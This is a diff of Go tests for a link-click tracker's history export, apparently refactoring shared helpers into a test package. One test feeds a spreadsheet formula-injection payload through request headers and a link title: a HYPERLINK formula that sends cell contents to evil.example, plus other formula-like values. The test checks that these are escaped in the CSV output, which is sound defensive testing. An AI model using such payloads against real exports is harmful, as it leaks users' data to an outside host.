@@ -18,6 +18,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/linktrackhq/linktrack"
+	"github.com/linktrackhq/linktrack/internal/trackertest"
 	"github.com/linktrackhq/linktrack/memstore"
 )
 
@@ -32,14 +33,14 @@ type pages struct {
 func (s *pages) Clicks(ctx context.Context, q linktrack.ClickFilter) ([]linktrack.Click, error) {
 	s.largest.Store(max(s.largest.Load(), int64(q.Limit)))
 	if s.asked.Add(1) == s.failAt {
-		return nil, errDown
+		return nil, trackertest.ErrDown
 	}
 	return s.Store.Clicks(ctx, q)
 }
 
 // manyClicks records n clicks of people, some at the same microsecond, and
 // returns their ids in order.
-func (s *service) manyClicks(l linktrack.Link, n int) []string {
+func manyClicks(s *trackertest.Service, l linktrack.Link, n int) []string {
 	var ids []string
 	at := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC) // long ago
 	for len(ids) < n {
@@ -51,11 +52,11 @@ func (s *service) manyClicks(l linktrack.Link, n int) []string {
 			b = append(b, linktrack.Click{ID: linktrack.NewClickID(at), Link: l.ID, UserAgent: "Mozilla/5.0", Referrer: "https://a.example/"})
 			ids = append(ids, "")
 		}
-		s.record(b...)
+		s.Record(b...)
 	}
-	clicks, err := s.store.(*pages).Store.Clicks(s.t.Context(), linktrack.ClickFilter{Link: l.ID, Ascending: true, Limit: n + 1})
-	require.NoError(s.t, err)
-	require.Len(s.t, clicks, n)
+	clicks, err := s.Store.(*pages).Store.Clicks(s.T.Context(), linktrack.ClickFilter{Link: l.ID, Ascending: true, Limit: n + 1})
+	require.NoError(s.T, err)
+	require.Len(s.T, clicks, n)
 	for i, k := range clicks {
 		ids[i] = k.ID.String()
 	}
@@ -98,14 +99,14 @@ func (c *chunks) Write(b []byte) (int, error) {
 
 func TestAnExportHasEachClickOnceInOrder(t *testing.T) {
 	store := &pages{Store: memstore.New()}
-	s := newService(t, store, linktrack.Options{})
-	l := s.linkOf(linktrack.NewLink{})
+	s := trackertest.NewService(t, store, linktrack.Options{})
+	l := s.AddLink(linktrack.NewLink{})
 	const n = 50_000
-	want := s.manyClicks(l, n)
+	want := manyClicks(s, l, n)
 	for _, f := range []linktrack.Format{linktrack.FormatCSV, linktrack.FormatJSON} {
 		store.asked.Store(0)
 		out := &chunks{store: store}
-		require.NoError(t, s.tracker.ExportHistory(t.Context(), s.account, l.Path, linktrack.ClickRange{}, f, out))
+		require.NoError(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, out))
 		require.LessOrEqual(t, store.largest.Load(), int64(1000), "a part is read at a time")
 		require.LessOrEqual(t, out.largest, 64<<10, "a part is written at a time")
 		require.LessOrEqual(t, out.atPage[0], int64(2), "what is read is written before the rest is read")
@@ -117,10 +118,10 @@ func TestAnExportHasEachClickOnceInOrder(t *testing.T) {
 func TestAnExportOfARange(t *testing.T) {
 	onEachStore(t, func(t *testing.T, inner linktrack.Store) {
 		store := &pages{Store: inner}
-		s := newService(t, store, linktrack.Options{})
-		l := s.linkOf(linktrack.NewLink{})
+		s := trackertest.NewService(t, store, linktrack.Options{})
+		l := s.AddLink(linktrack.NewLink{})
 		const n = 2500
-		ids := s.manyClicks(l, n)
+		ids := manyClicks(s, l, n)
 		idAt := func(i int) linktrack.ClickID {
 			id, ok := linktrack.ParseClickID(ids[i])
 			require.True(t, ok)
@@ -149,7 +150,7 @@ func TestAnExportOfARange(t *testing.T) {
 		} {
 			for _, f := range []linktrack.Format{linktrack.FormatCSV, linktrack.FormatJSON} {
 				var b bytes.Buffer
-				require.NoError(t, s.tracker.ExportHistory(t.Context(), s.account, l.Path, c.q, f, &b))
+				require.NoError(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, c.q, f, &b))
 				require.Equal(t, c.want, historyIDs(t, f, &b), "%+v", c.q)
 			}
 		}
@@ -158,24 +159,24 @@ func TestAnExportOfARange(t *testing.T) {
 
 func TestAnAppReadsAHistoryOfAnyLength(t *testing.T) {
 	store := &pages{Store: memstore.New()}
-	s := newService(t, store, linktrack.Options{})
-	l := s.linkOf(linktrack.NewLink{})
-	want := s.manyClicks(l, 2500)
+	s := trackertest.NewService(t, store, linktrack.Options{})
+	l := s.AddLink(linktrack.NewLink{})
+	want := manyClicks(s, l, 2500)
 	var got []string
-	for c, err := range s.tracker.Clicks(t.Context(), s.account, l.Path, linktrack.ClickRange{}) {
+	for c, err := range s.Tracker.Clicks(t.Context(), s.Account, l.Path, linktrack.ClickRange{}) {
 		require.NoError(t, err)
 		got = append(got, c.ID.String())
 	}
 	require.Equal(t, want, got)
 	store.asked.Store(0)
-	for range s.tracker.Clicks(t.Context(), s.account, l.Path, linktrack.ClickRange{}) {
+	for range s.Tracker.Clicks(t.Context(), s.Account, l.Path, linktrack.ClickRange{}) {
 		break
 	}
 	require.EqualValues(t, 1, store.asked.Load(), "what nobody asks for is not read")
-	for _, account := range []linktrack.Account{s.account, {ID: s.account.ID + 1}} {
-		path := map[bool]string{true: "nothing", false: l.Path}[account.ID == s.account.ID]
+	for _, account := range []linktrack.Account{s.Account, {ID: s.Account.ID + 1}} {
+		path := map[bool]string{true: "nothing", false: l.Path}[account.ID == s.Account.ID]
 		n := 0
-		for _, err := range s.tracker.Clicks(t.Context(), account, path, linktrack.ClickRange{}) {
+		for _, err := range s.Tracker.Clicks(t.Context(), account, path, linktrack.ClickRange{}) {
 			n++
 			require.ErrorIs(t, err, linktrack.ErrNotFound)
 		}
@@ -189,43 +190,43 @@ func (w failingWriter) Write([]byte) (int, error) { return 0, w.err }
 
 func TestAnExportThatFailsSaysSo(t *testing.T) {
 	store := &pages{Store: memstore.New()}
-	s := newService(t, store, linktrack.Options{})
-	l := s.linkOf(linktrack.NewLink{})
-	s.manyClicks(l, 3000)
+	s := trackertest.NewService(t, store, linktrack.Options{})
+	l := s.AddLink(linktrack.NewLink{})
+	manyClicks(s, l, 3000)
 	for _, f := range []linktrack.Format{linktrack.FormatCSV, linktrack.FormatJSON} {
 		var b bytes.Buffer
 		store.asked.Store(0)
 		store.failAt = 1
-		require.ErrorIs(t, s.tracker.ExportHistory(t.Context(), s.account, l.Path, linktrack.ClickRange{}, f, &b), linktrack.ErrUnavailable)
+		require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, &b), linktrack.ErrUnavailable)
 		require.Zero(t, b.Len(), "nothing is written before the first part is read")
 		store.asked.Store(0)
 		store.failAt = 3
-		require.ErrorIs(t, s.tracker.ExportHistory(t.Context(), s.account, l.Path, linktrack.ClickRange{}, f, &b), linktrack.ErrUnavailable)
+		require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, &b), linktrack.ErrUnavailable)
 		require.NotZero(t, b.Len())
 		require.False(t, json.Valid(b.Bytes()), "nobody takes a part for the whole")
 		store.failAt = 0
 		full := errors.New("the disk is full")
-		require.ErrorIs(t, s.tracker.ExportHistory(t.Context(), s.account, l.Path, linktrack.ClickRange{}, f, failingWriter{full}), full)
+		require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, f, failingWriter{full}), full)
 	}
 	var inv *linktrack.InvalidError
-	require.ErrorAs(t, s.tracker.ExportHistory(t.Context(), s.account, l.Path, linktrack.ClickRange{}, "xml", io.Discard), &inv)
+	require.ErrorAs(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, "xml", io.Discard), &inv)
 	require.Equal(t, "format", inv.Param)
-	require.ErrorIs(t, s.tracker.ExportHistory(t.Context(), s.account, "nothing", linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), linktrack.ErrNotFound)
-	require.ErrorIs(t, s.tracker.ExportHistory(t.Context(), linktrack.Account{ID: -5}, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), linktrack.ErrNotFound)
+	require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), s.Account, "nothing", linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), linktrack.ErrNotFound)
+	require.ErrorIs(t, s.Tracker.ExportHistory(t.Context(), linktrack.Account{ID: -5}, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), linktrack.ErrNotFound)
 	ctx, cancel := context.WithCancel(t.Context())
 	cancel()
-	require.ErrorIs(t, s.tracker.ExportHistory(ctx, s.account, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), context.Canceled)
+	require.ErrorIs(t, s.Tracker.ExportHistory(ctx, s.Account, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, io.Discard), context.Canceled)
 }
 
 func TestExportHistoryOverHTTP(t *testing.T) {
 	store := &pages{Store: memstore.New()}
-	s := newService(t, store, linktrack.Options{})
-	l := s.linkOf(linktrack.NewLink{})
-	want := s.manyClicks(l, 20_000)
-	server := httptest.NewServer(s.handler)
+	s := trackertest.NewService(t, store, linktrack.Options{})
+	l := s.AddLink(linktrack.NewLink{})
+	want := manyClicks(s, l, 20_000)
+	server := httptest.NewServer(s.Handler)
 	t.Cleanup(server.Close)
 	ask := func(query string) *http.Response {
-		r, err := http.Get(server.URL + "/api/v1_0/exportHistory?login=" + login + "&pass=" + pass + query)
+		r, err := http.Get(server.URL + "/api/v1_0/exportHistory?login=" + trackertest.Login + "&pass=" + trackertest.Pass + query)
 		require.NoError(t, err)
 		t.Cleanup(func() { r.Body.Close() })
 		return r
@@ -241,9 +242,9 @@ func TestExportHistoryOverHTTP(t *testing.T) {
 	r := ask("&redirect_hash=" + l.Path + "&after=" + want[19_990])
 	require.Equal(t, want[19_991:], historyIDs(t, linktrack.FormatCSV, r.Body))
 	r = ask("&redirect_hash=" + l.Path + "&start_date=2030-01-01")
-	require.Equal(t, "id,created_at,ip_address,referrer,referrer_host,user_agent,browser,platform,is_unique,is_bot,query\r\n", text(t, r))
+	require.Equal(t, "id,created_at,ip_address,referrer,referrer_host,user_agent,browser,platform,is_unique,is_bot,query\r\n", trackertest.Text(t, r))
 	r = ask("&format=json&redirect_hash=" + l.Path + "&end_date=2020-01-01")
-	require.JSONEq(t, `{"history":[]}`, text(t, r))
+	require.JSONEq(t, `{"history":[]}`, trackertest.Text(t, r))
 
 	for query, want := range map[string]string{
 		"":                                     "400 Error: redirect_hash is missing",
@@ -255,10 +256,10 @@ func TestExportHistoryOverHTTP(t *testing.T) {
 		"&pass=wrong&redirect_hash=" + l.Path:  "401 Error: login or pass is wrong",
 	} {
 		r := ask(query)
-		require.Equal(t, want, fmt.Sprint(r.StatusCode, " ", text(t, r)), query)
+		require.Equal(t, want, fmt.Sprint(r.StatusCode, " ", trackertest.Text(t, r)), query)
 		require.Empty(t, r.Header.Get("Content-Disposition"))
 	}
-	require.Equal(t, 405, s.do(request(http.MethodPut, "/api/v1_0/exportHistory", "")).StatusCode)
+	require.Equal(t, 405, s.Do(trackertest.Request(http.MethodPut, "/api/v1_0/exportHistory", "")).StatusCode)
 
 	store.asked.Store(0)
 	store.failAt = 2
@@ -295,13 +296,13 @@ func (d *deadlines) Write(b []byte) (int, error) {
 
 func TestADownloadMayTakeLongerThanTheServersLimit(t *testing.T) {
 	store := &pages{Store: memstore.New()}
-	s := newService(t, store, linktrack.Options{})
-	l := s.linkOf(linktrack.NewLink{})
-	want := s.manyClicks(l, 3000)
+	s := trackertest.NewService(t, store, linktrack.Options{})
+	l := s.AddLink(linktrack.NewLink{})
+	want := manyClicks(s, l, 3000)
 	for _, limit := range []time.Duration{30 * time.Second, 0} {
 		w := &deadlines{ResponseRecorder: httptest.NewRecorder()}
 		ctx := context.WithValue(t.Context(), http.ServerContextKey, &http.Server{WriteTimeout: limit})
-		s.handler.ServeHTTP(w, request(http.MethodGet, "/api/v1_0/exportHistory?login="+login+"&pass="+pass+"&redirect_hash="+l.Path, "").WithContext(ctx))
+		s.Handler.ServeHTTP(w, trackertest.Request(http.MethodGet, "/api/v1_0/exportHistory?login="+trackertest.Login+"&pass="+trackertest.Pass+"&redirect_hash="+l.Path, "").WithContext(ctx))
 		require.Equal(t, want, historyIDs(t, linktrack.FormatCSV, w.Body))
 		if limit == 0 {
 			require.Empty(t, w.all, "without a limit there is none to move")
@@ -316,17 +317,17 @@ func TestADownloadMayTakeLongerThanTheServersLimit(t *testing.T) {
 }
 
 func TestTextsOfStrangersAreNoFormulas(t *testing.T) {
-	s := newService(t, memstore.New(), linktrack.Options{})
-	l := s.linkOf(linktrack.NewLink{VanityLink: "spring", LinkSettings: linktrack.LinkSettings{Title: "@SUM(1)"}})
+	s := trackertest.NewService(t, memstore.New(), linktrack.Options{})
+	l := s.AddLink(linktrack.NewLink{VanityLink: "spring", LinkSettings: linktrack.LinkSettings{Title: "@SUM(1)"}})
 	hostile := `=HYPERLINK("http://evil.example/?"&A1,"x")`
-	r := s.get("/spring?"+"=cmd", "Referer", "-2+3;=1+1", "User-Agent", hostile)
+	r := s.Get("/spring?"+"=cmd", "Referer", "-2+3;=1+1", "User-Agent", hostile)
 	require.Equal(t, http.StatusFound, r.StatusCode)
-	r = s.call("getLinkHistory", values("redirect_hash", "spring", "format", "csv"))
+	r = s.Call("getLinkHistory", trackertest.Values("redirect_hash", "spring", "format", "csv"))
 	require.Equal(t, 200, r.StatusCode)
 	require.Equal(t, "text/csv; charset=utf-8; header=present", r.Header.Get("Content-Type"))
 	var b bytes.Buffer
-	require.NoError(t, s.tracker.ExportHistory(t.Context(), s.account, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, &b))
-	body := text(t, r)
+	require.NoError(t, s.Tracker.ExportHistory(t.Context(), s.Account, l.Path, linktrack.ClickRange{}, linktrack.FormatCSV, &b))
+	body := trackertest.Text(t, r)
 	require.Equal(t, b.String(), body, "the call and the export write alike")
 	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
 	require.NoError(t, err)
@@ -334,7 +335,7 @@ func TestTextsOfStrangersAreNoFormulas(t *testing.T) {
 	require.Equal(t, "'-2+3;'=1+1", rows[1][3])
 	require.Equal(t, "'"+hostile, rows[1][5])
 	require.Equal(t, "'=cmd", rows[1][10])
-	r = s.call("getReport", values("redirect_hash", "spring", "format", "csv"))
-	require.Contains(t, text(t, r), "title,'@SUM(1),")
-	require.Equal(t, 400, s.call("getLinkHistory", values("redirect_hash", "spring", "format", "csv", "limit", "1001")).StatusCode, "the limit of a call stays")
+	r = s.Call("getReport", trackertest.Values("redirect_hash", "spring", "format", "csv"))
+	require.Contains(t, trackertest.Text(t, r), "title,'@SUM(1),")
+	require.Equal(t, 400, s.Call("getLinkHistory", trackertest.Values("redirect_hash", "spring", "format", "csv", "limit", "1001")).StatusCode, "the limit of a call stays")
 }
